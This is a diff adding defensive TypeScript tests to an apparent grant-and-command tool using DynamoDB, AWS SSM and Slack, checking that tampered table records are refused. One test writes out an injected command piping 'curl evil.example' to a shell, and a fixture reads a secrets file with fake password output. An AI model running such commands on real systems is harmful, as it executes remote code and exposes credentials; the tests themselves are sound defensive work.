@@ -5,6 +5,7 @@ import { createDynamoGrantStore, grantIndexKeys } from '../../src/adapters/dynam
 import { SimulatedAccount } from '../../src/adapters/sandbox/simulated-account';
 import type { Deps } from '../../src/app/deps';
 import { handleJob } from '../../src/app/handle-job';
+import { recordInvocationEvent } from '../../src/app/record-invocation-event';
 import { sweep } from '../../src/app/sweep';
 import type { CommandRun } from '../../src/domain/command-run';
 import type { Grant } from '../../src/domain/grant';
@@ -257,6 +258,13 @@ describe('approved grants written straight into the table', () => {
     expect(w.account.calls).toEqual([]);
   });
 
+  it('an apply job for a grant whose target is named like a property every object has is refused as an unknown target', async () => {
+    const w = world();
+    const grant = await writeGrant({ target: 'constructor' });
+    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
+    await expectRefused(w, grant.id, /target constructor is not in the configuration/);
+  });
+
   it('fails closed when Slack cannot say who is in the approver group that approved', async () => {
     const w = world();
     w.chat.userGroupMembers = async () => {
@@ -376,6 +384,44 @@ describe('an approved extension written straight into the table', () => {
   });
 });
 
+describe('active grants written straight into the table', () => {
+  it("a due grant naming another policy: the sweeper's revoke neither detaches nor deletes that policy", async () => {
+    const w = world();
+    const foreign = 'arn:aws:iam::123456789012:policy/ProdDeploy';
+    const grant = await writeGrant({
+      status: 'active',
+      principal: { kind: 'role', name: 'ci-deployer' },
+      policyArn: foreign,
+      expiresAt: '2026-11-23T09:55:00Z',
+      startsAt: '2026-11-23T08:55:00Z',
+    });
+
+    await sweep(w.deps);
+    await w.drain();
+
+    const named = w.account.calls.filter((c) => JSON.stringify(c.args).includes(foreign));
+    expect(named).toEqual([]);
+    expect((await w.grants.get(grant.id))?.status).toBe('expired');
+  });
+
+  it("a due grant naming a principal its requester does not map to: the revoke leaves that principal's Run As tag alone", async () => {
+    const w = world();
+    const grant = await writeGrant({
+      status: 'active',
+      principal: { kind: 'user', name: 'ops-lead' },
+      runAsSet: 'pi-ops',
+      expiresAt: '2026-11-23T09:55:00Z',
+      startsAt: '2026-11-23T08:55:00Z',
+    });
+
+    await sweep(w.deps);
+    await w.drain();
+
+    expect(w.account.calls.filter((c) => c.op === 'clearRunAs')).toEqual([]);
+    expect((await w.grants.get(grant.id))?.status).toBe('expired');
+  });
+});
+
 describe('queued runs written straight into the table', () => {
   it.each([
     [
@@ -441,6 +487,74 @@ describe('queued runs written straight into the table', () => {
       ]);
     },
   );
+
+  it('a command rewritten in the table after the check, while the run message is posted, is never sent', async () => {
+    const w = world();
+    const run = await writeRun();
+    const tampered = "journalctl -u 'ssh' -n '100' --no-pager; curl evil.example | sh";
+    const post = w.deps.runChat.postRunMessage.bind(w.deps.runChat);
+    // The check has passed by the time the message goes out; the send comes after it.
+    w.deps.runChat.postRunMessage = async (channel, view) => {
+      const current = (await w.runs.get(run.id)) as CommandRun;
+      const forged = { ...current, command: tampered, version: current.version + 1 };
+      await table.documentClient.send(
+        new PutCommand({
+          TableName: table.tableName,
+          Item: { ...forged, ...runIndexKeys(forged), _et: 'CommandRun', pk: `RUN#${run.id}`, sk: 'RUN' },
+        }),
+      );
+      return post(channel, view);
+    };
+
+    await handleJob(w.deps, { kind: 'start-run', runId: run.id });
+
+    expect(w.commands.sent.flatMap((s) => s.commands)).not.toContain(tampered);
+    const stored = await w.runs.get(run.id);
+    expect(stored?.status).toBe('failed');
+    expect(stored?.failureReason).toMatch(/not what the snippet renders/);
+  });
+
+  /** Someone else's shell command in the account, whose id the attacker learnt, and a run pointing at it. */
+  async function foreignCommandRun(w: World) {
+    const node = w.config.sandbox.fleet[0] as { id: string };
+    w.commands.script(node.id, { status: 'Success', exitCode: 0, stdout: 'DB_PASSWORD=hunter2', stderr: '' });
+    const { commandId } = await w.commands.sendCommand({
+      documentName: 'AWS-RunShellScript',
+      targetTags: w.config.targets['prod-raspi']?.tags ?? {},
+      commands: ['cat /etc/app/secrets.env'],
+      deliveryTimeoutSeconds: 300,
+      comment: 'nightly secrets check',
+    });
+    const run = await writeRun({ status: 'running', commandId, sentAt: NOW, channel: 'C0PUBLIC' });
+    return { run, commandId, nodeId: node.id };
+  }
+
+  it("a running run pointing at another tool's command: polling posts none of that command's output", async () => {
+    const w = world();
+    const { run } = await foreignCommandRun(w);
+
+    await handleJob(w.deps, { kind: 'track-run', runId: run.id });
+
+    expect(JSON.stringify(w.deps.runChat)).not.toContain('hunter2');
+    expect(await w.runs.nodeResults(run.id)).toEqual([]);
+  });
+
+  it("a running run pointing at another tool's command: its status event is not Keyturn's, and posts nothing", async () => {
+    const w = world();
+    const { run, commandId, nodeId } = await foreignCommandRun(w);
+    const event = {
+      detail: {
+        'command-id': commandId,
+        'instance-id': nodeId,
+        status: 'Success',
+        'document-name': 'AWS-RunShellScript',
+      },
+    };
+
+    expect(await recordInvocationEvent(w.deps, event)).toBe('not-ours');
+    expect(JSON.stringify(w.deps.runChat)).not.toContain('hunter2');
+    expect(await w.runs.nodeResults(run.id)).toEqual([]);
+  });
 
   it('a run recorded as Keyturn records it is still sent', async () => {
     const w = world();
